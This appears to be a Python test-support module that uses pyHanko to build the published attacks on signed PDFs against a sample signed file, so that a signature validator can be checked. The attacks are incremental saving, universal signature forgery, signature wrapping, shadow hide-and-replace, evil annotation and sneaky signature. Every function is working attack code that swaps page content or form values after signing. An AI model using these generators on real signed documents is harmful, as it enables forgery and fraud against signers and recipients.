"""Published attacks on signed PDFs, carried out on a file that Əli signed.

Classes: incremental saving, signature wrapping, universal signature forgery (Mladenov et al.,
CCS 2019); hide, replace, hide-and-replace (Mainka et al., NDSS 2021); evil annotation and sneaky
signature on certified files (Rohlmann et al., S&P 2021). Every function returns name -> bytes.
"""

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Change = Callable[[IncrementalPdfFileWriter], None]

_EVIL = b"BT /F1 12 Tf 20 100 Td (Borc 1 manat) Tj ET"


def updated(pdf: bytes, change: Change) -> bytes:
    """Return the file with a change in an incremental update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> DictionaryObject:
    page = writer.root["/Pages"]["/Kids"][0]
    writer.mark_update(writer.root["/Pages"]["/Kids"].raw_get(0))
    return page


def _content(writer: IncrementalPdfFileWriter, data: bytes = _EVIL) -> IndirectObject:
    return writer.add_object(StreamObject(stream_data=data))


def _replace_content(writer: IncrementalPdfFileWriter) -> None:
    _page(writer)["/Contents"] = _content(writer)


def _hide_and_replace(writer: IncrementalPdfFileWriter) -> None:
    """Show what already lay in the signed part, unseen."""
    _page(writer)["/Contents"] = writer.root.raw_get("/KgHidden")


def _overwrite_content(writer: IncrementalPdfFileWriter) -> None:
    reference = _page(writer).raw_get("/Contents")
    stream = reference.get_object()
    stream._data = _EVIL
    stream._encoded_data = None
    writer.mark_update(reference)


def _add_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    page = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Page"),
            NameObject("/Parent"): writer.root.raw_get("/Pages"),
            NameObject("/MediaBox"): ArrayObject([NumberObject(n) for n in (0, 0, 300, 200)]),
            NameObject("/Contents"): _content(writer),
        }
    )
    pages["/Kids"].append(writer.add_object(page))
    pages["/Count"] = NumberObject(int(pages["/Count"]) + 1)
    writer.mark_update(writer.root.raw_get("/Pages"))


def _remove_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"].pop()
    pages["/Count"] = NumberObject(int(pages["/Count"]) - 1)
    writer.mark_update(writer.root.raw_get("/Pages"))


def _swap_pages(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/Pages"]["/Kids"].reverse()
    writer.mark_update(writer.root.raw_get("/Pages"))


def _crop(writer: IncrementalPdfFileWriter) -> None:
    box = ArrayObject([NumberObject(n) for n in (0, 120, 300, 200)])
    _page(writer)[NameObject("/CropBox")] = box


def _rotate(writer: IncrementalPdfFileWriter) -> None:
    _page(writer)[NameObject("/Rotate")] = NumberObject(180)


def _annotate(writer: IncrementalPdfFileWriter) -> None:
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FreeText"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 300, 200)]),
            NameObject("/Contents"): TextStringObject("Borc yoxdur"),
            NameObject("/DA"): TextStringObject("/F1 20 Tf"),
        }
    )
    page = _page(writer)
    annotations = ArrayObject([*page.get("/Annots", ()), writer.add_object(note)])
    page[NameObject("/Annots")] = annotations


def _replace_font(writer: IncrementalPdfFileWriter) -> None:
    reference = _page(writer)["/Resources"]["/Font"].raw_get("/F1")
    reference.get_object()[NameObject("/BaseFont")] = NameObject("/ZapfDingbats")
    writer.mark_update(reference)


def _new_resources(writer: IncrementalPdfFileWriter) -> None:
    _page(writer)[NameObject("/Resources")] = DictionaryObject()


def _open_action(writer: IncrementalPdfFileWriter) -> None:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    writer.root[NameObject("/OpenAction")] = writer.add_object(action)
    writer.update_root()


def _names(writer: IncrementalPdfFileWriter) -> None:
    writer.root[NameObject("/Names")] = DictionaryObject(
        {NameObject("/EmbeddedFiles"): DictionaryObject({NameObject("/Names"): ArrayObject()})}
    )
    writer.update_root()


def _layers(writer: IncrementalPdfFileWriter) -> None:
    writer.root[NameObject("/OCProperties")] = DictionaryObject(
        {NameObject("/OCGs"): ArrayObject(), NameObject("/D"): DictionaryObject()}
    )
    writer.update_root()


def _new_catalog(writer: IncrementalPdfFileWriter) -> None:
    pages = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Pages"),
            NameObject("/Kids"): ArrayObject([writer.root["/Pages"]["/Kids"].raw_get(0)]),
            NameObject("/Count"): NumberObject(1),
        }
    )
    writer.root[NameObject("/Pages")] = writer.add_object(pages)
    writer.update_root()


def _unknown_root_key(writer: IncrementalPdfFileWriter) -> None:
    writer.root[NameObject("/KgHidden")] = _content(writer)
    writer.update_root()


def _free_content(writer: IncrementalPdfFileWriter) -> None:
    _page(writer)["/Contents"] = generic.NullObject()


def _signature_value(writer: IncrementalPdfFileWriter) -> None:
    field = writer.root["/AcroForm"]["/Fields"][-1]
    field["/V"][NameObject("/Reason")] = TextStringObject("Razıyam")
    writer.mark_update(field.raw_get("/V"))


def _field_name(writer: IncrementalPdfFileWriter) -> None:
    fields = writer.root["/AcroForm"]["/Fields"]
    fields[-1][NameObject("/T")] = TextStringObject("Basqa")
    writer.mark_update(fields.raw_get(-1))


def _rect(writer: IncrementalPdfFileWriter) -> None:
    """Make the invisible signature's field a big picture over the page."""
    fields = writer.root["/AcroForm"]["/Fields"]
    field = fields[-1]
    form = StreamObject(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Form"),
            NameObject("/BBox"): ArrayObject([NumberObject(n) for n in (0, 0, 300, 200)]),
        },
        stream_data=b"1 g 0 0 300 200 re f",
    )
    field[NameObject("/Rect")] = ArrayObject([NumberObject(n) for n in (0, 0, 300, 200)])
    field[NameObject("/AP")] = DictionaryObject({NameObject("/N"): writer.add_object(form)})
    writer.mark_update(fields.raw_get(-1))


def _evidence_and_content(writer: IncrementalPdfFileWriter) -> None:
    """Bring a document security store and, under its cover, other content."""
    writer.root[NameObject("/DSS")] = writer.add_object(DictionaryObject())
    writer.update_root()
    _replace_content(writer)


_CONTENT: dict[str, Change] = {
    "replace: the page shows new content": _replace_content,
    "replace: the content stream is written anew": _overwrite_content,
    "hide: the content is taken from the page": _free_content,
    "hide-and-replace: hidden content is shown": _hide_and_replace,
    "replace: a page is added": _add_page,
    "hide: a page is removed": _remove_page,
    "replace: pages change places": _swap_pages,
    "hide: the page is cropped": _crop,
    "replace: the page is turned": _rotate,
    "evil annotation: a text over the page": _annotate,
    "replace: another font draws the letters": _replace_font,
    "hide: the resources are emptied": _new_resources,
    "a script runs on opening": _open_action,
    "embedded files appear": _names,
    "layers appear": _layers,
    "hide: another page tree": _new_catalog,
    "an object of the catalog is replaced": _unknown_root_key,
    "the signature dictionary is written anew": _signature_value,
    "the signature field is renamed": _field_name,
    "sneaky signature: the field covers the page": _rect,
    "evidence hides a change of content": _evidence_and_content,
}


def _field_value(writer: IncrementalPdfFileWriter) -> None:
    fields = writer.root["/AcroForm"]["/Fields"]
    fields[0][NameObject("/V")] = TextStringObject("900")
    writer.mark_update(fields.raw_get(0))


def _field_font(writer: IncrementalPdfFileWriter) -> None:
    fields = writer.root["/AcroForm"]["/Fields"]
    fields[0][NameObject("/DA")] = TextStringObject("/F1 90 Tf")
    writer.mark_update(fields.raw_get(0))


def _field_added(writer: IncrementalPdfFileWriter) -> None:
    form = writer.root["/AcroForm"]
    field = DictionaryObject(
        {
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("yeni"),
            NameObject("/V"): TextStringObject("900"),
        }
    )
    form["/Fields"].append(writer.add_object(field))
    writer.mark_update(writer.root.raw_get("/AcroForm"))


def _field_removed(writer: IncrementalPdfFileWriter) -> None:
    form = writer.root["/AcroForm"]
    form["/Fields"].pop(0)
    writer.mark_update(writer.root.raw_get("/AcroForm"))


def _appearances(writer: IncrementalPdfFileWriter) -> None:
    form = writer.root["/AcroForm"]
    form[NameObject("/NeedAppearances")] = BooleanObject(value=True)
    form[NameObject("/DA")] = TextStringObject("/F1 90 Tf")
    writer.mark_update(writer.root.raw_get("/AcroForm"))


_FORMS: dict[str, Change] = {
    "a form field has another value": _field_value,
    "a form field is drawn otherwise": _field_font,
    "a form field is added": _field_added,
    "a form field is removed": _field_removed,
    "the form's defaults change": _appearances,
}


def changed_after_signing(signed: bytes, signed_form: bytes) -> dict[str, bytes]:
    """Return the shadow attacks on a signed file of two pages and on a signed form."""
    found = {name: updated(signed, change) for name, change in _CONTENT.items()}
    return found | {name: updated(signed_form, change) for name, change in _FORMS.items()}


def appended(signed: bytes) -> dict[str, bytes]:
    """Return what is put behind a signed file without a proper update (incremental saving)."""
    body = b"4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(_EVIL), _EVIL)
    end = re.search(rb"startxref\s+\d+\s+%%EOF\s*\Z", signed)
    assert end is not None
    trailer = b"trailer\n<< /Root 1 0 R /Size 9 >>\n"
    return {
        "a byte at the end": signed + b"\n",
        "junk at the end": signed + b"salam",
        "a comment at the end": signed + b"% salam\n%%EOF\n",
        "a second end of file": signed + b"%%EOF\n",
        "incremental saving without a table": signed + body + end[0],
        "incremental saving with a trailer alone": signed + body + trailer + end[0],
        "incremental saving with nothing but objects": signed + body,
        "incremental saving with an end that points nowhere": signed
        + body
        + b"startxref\n99999999\n%%EOF\n",
        "incremental saving with an end that points at zero": signed
        + body
        + b"startxref\n0\n%%EOF\n",
        "the whole file twice": signed + signed,
    }


def broken_bytes(signed: bytes) -> dict[str, bytes]:
    """Return the file with bytes changed, lost or put in front."""
    text = signed.index(b"Borc 100")
    begin = signed.rindex(b"/Contents <") + len(b"/Contents <")
    gap_end = signed.index(b">", begin)
    return {
        "one letter of the text changed": signed[: text + 5] + b"9" + signed[text + 6 :],
        "the last byte lost": signed[:-1],
        "half of the file lost": signed[: len(signed) // 2],
        "only the signature lost": signed[: begin - 1] + b"<>" + signed[gap_end + 1 :],
        "a byte in front": b" " + signed,
        "a second head in front": b"%PDF-1.7\n" + signed,
        "something in the padding": signed[: gap_end - 2] + b"01" + signed[gap_end:],
        "blanks among the hex digits": signed[: gap_end - 2] + b"  " + signed[gap_end:],
        "letters that are no hex digits": signed[: gap_end - 2] + b"zz" + signed[gap_end:],
        "an odd number of hex digits": signed[: gap_end - 1] + b">>" + signed[gap_end + 1 :],
    }


def forged_dictionaries(signed: bytes) -> dict[str, bytes]:
    """Return the universal forgeries: a signature dictionary from which something is missing."""
    found = re.search(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\] *", signed)
    assert found is not None
    whole, (_zero, gap, after, rest) = found[0], (int(one) for one in found.groups())
    begin = signed.rindex(b"/Contents <")
    contents = signed[begin : signed.index(b">", begin) + 1]

    def ranged(text: bytes) -> bytes:
        return signed.replace(whole, text.ljust(len(whole)))

    def contained(text: bytes) -> bytes:
        return signed.replace(contents, text.ljust(len(contents)))

    return {
        "no range": ranged(b""),
        "an empty range": ranged(b"/ByteRange []"),
        "a range of null": ranged(b"/ByteRange null"),
        "a range of zeros": ranged(b"/ByteRange [0 0 0 0]"),
        "a range that begins later": ranged(b"/ByteRange [1 %d %d %d]" % (gap, after, rest)),
        "a negative range": ranged(b"/ByteRange [0 %d -%d %d]" % (gap, after, rest)),
        "a range of fractions": ranged(b"/ByteRange [0 %d.5 %d %d]" % (gap, after, rest)),
        "a range beyond the end": ranged(b"/ByteRange [0 %d %d %d]" % (gap, after, rest + 9)),
        "a range that stops early": ranged(b"/ByteRange [0 %d %d %d]" % (gap, after, rest - 9)),
        "a range with a hole": ranged(b"/ByteRange [0 %d %d %d]" % (gap - 9, after, rest)),
        "a range with overlap": ranged(b"/ByteRange [0 %d %d %d]" % (gap, gap, rest)),
        "a range of six numbers": ranged(b"/ByteRange [0 %d %d 1 1 1]" % (gap, after)),
        "a range of names": ranged(b"/ByteRange [/a /b /c /d]"),
        "a range elsewhere": ranged(b"/ByteRange 1 0 R"),
        "no contents": contained(b""),
        "contents of null": contained(b"/Contents null"),
        "empty contents": contained(b"/Contents <>"),
        "contents of one zero": contained(b"/Contents <00>"),
        "contents that are a name": contained(b"/Contents /Imza"),
        "no kind": signed.replace(b"/SubFilter /ETSI.CAdES.detached", b" " * 31),
        "a kind that nobody knows": signed.replace(b"ETSI.CAdES.detached", b"ETSI.CAdES.detachet"),
        "a kind of the last century": signed.replace(
            b"/ETSI.CAdES.detached", b"/adbe.pkcs7.sha1    "
        ),
    }


def wrapped(signed: bytes) -> dict[str, bytes]:
    """Return the signature wrappings: the signed bytes moved, other ones in their place."""
    found = re.search(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\] *", signed)
    assert found is not None
    whole, (_zero, gap, after, rest) = found[0], (int(one) for one in found.groups())
    evil = b"\n" + _EVIL + b"\n"
    moved = b"/ByteRange [0 %d %d %d]" % (gap, after + len(evil), rest)
    between = signed.replace(whole, moved.ljust(len(whole)))
    begin = signed.rindex(b"/Contents <")
    digits = signed[begin + 11 : signed.index(b">", begin)]
    copied = b"/Contents <%s> /Contents <%s>" % (digits, digits)
    return {
        "wrapping: other content behind the gap": between[:after] + evil + between[after:],
        "wrapping: the gap begins inside": between[: gap + 1] + evil + between[gap + 1 :],
        "wrapping: the signed end at the end of the file": between[:after] + evil + signed[after:],
        "wrapping: the signature stands twice": signed[:begin]
        + copied
        + signed[begin + 12 + len(digits) :],
    }
